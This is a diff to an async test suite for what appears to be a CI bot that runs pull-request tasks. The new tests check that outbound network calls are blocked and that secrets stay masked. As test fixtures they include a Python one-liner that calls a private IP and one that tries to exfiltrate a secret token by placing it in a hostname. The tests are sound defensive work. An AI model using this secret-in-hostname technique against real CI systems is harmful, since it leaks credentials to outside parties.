@@ -65,13 +65,19 @@ async def test_the_same_command_again_edits_the_one_comment_and_opens_a_new_chec
 
 
 async def test_a_failing_task_makes_a_red_check_that_shows_the_end_of_its_output(tmp_path: Path) -> None:
-    tasks = "tasks:\n  - {name: break, run: 'echo the reason; exit 3'}\n  - {name: after, run: 'echo never'}\n"
+    tasks = (
+        "tasks:\n  - name: break\n    run: |\n      echo the reason\n"
+        "      python3 -c 'import urllib.request as u; u.urlopen(\"https://10.9.8.7/\")' 2>/dev/null || exit 3\n"
+        "  - {name: after, run: 'echo never'}\n"
+    )
     async with journey(tmp_path, {**FILES, ".gibil.yml": tasks}) as world:
         number = await world.github.open_pull_request(REPOSITORY, "worse", {"engine.py": "POWER = 0\n"}, "ada")
         world.github.comment(REPOSITORY, number, "ada", "/gibil test")
         check = await world.closed_check(number)
         assert check.conclusion == "failure"
         assert "the reason" in f"{check.summary}{check.text}"
+        assert "gibil: blocked, as not public: 10.9.8.7:443" in check.text
+        assert check.summary.count("GIBIL_EGRESS_ALLOW=10.9.8.7:443") == 1
         assert "never" not in f"{check.text}"
         await world.told_everything()
         await world.assert_nothing_left()
@@ -135,11 +141,15 @@ async def test_untrusted_code_runs_without_secrets_where_the_operator_allows_it(
 
 
 async def test_a_secret_reaches_the_task_and_never_a_log_or_github(tmp_path: Path) -> None:
-    secret = "s3cr3t-value-that-nobody-may-see"
+    secret = "s3cr3t-Value-that-nobody-may-see"
     workflow = (
         "name: Probe\non: {command: probe}\nsecrets: [TOKEN]\ntasks:\n"
         '  - name: look\n    run: |\n      test -n "$TOKEN"\n      echo "plain $TOKEN"; printf %s "$TOKEN" | base64\n'
-        '      echo "$TOKEN" >> $GITHUB_STEP_SUMMARY\n      exit 1\n'
+        '      echo "$TOKEN" >> $GITHUB_STEP_SUMMARY\n'
+        + (
+            "      export no_proxy= NO_PROXY= ask='import sys, urllib.request as u; u.urlopen(sys.argv[1])'\n"
+            '      python3 -c "$ask" "https://$TOKEN.localhost/" 2>/dev/null || exit 1\n'
+        )
     )
     async with journey(tmp_path, FILES, settings={"GIBIL_SECRET_TOKEN": secret}, workflows={"probe.yml": workflow}) as world:
         number = await world.github.open_pull_request(REPOSITORY, "x", {"engine.py": "POWER = 9\n"}, "ada")
@@ -148,7 +158,8 @@ async def test_a_secret_reaches_the_task_and_never_a_log_or_github(tmp_path: Pat
         await world.told_everything()
         shown = f"{check.title}{check.summary}{check.text}" + "".join(c.body for c in world.github.comments(REPOSITORY, number))
         assert "plain ***" in shown
-        assert secret not in shown
+        assert "***.localhost:443" in shown, "a host that the task was kept from reaching, named after the secret"
+        assert secret.lower() not in shown.lower()
     for path in world.bot.data_dir.rglob("*"):
         if path.is_file():
             assert secret.encode() not in path.read_bytes(), path
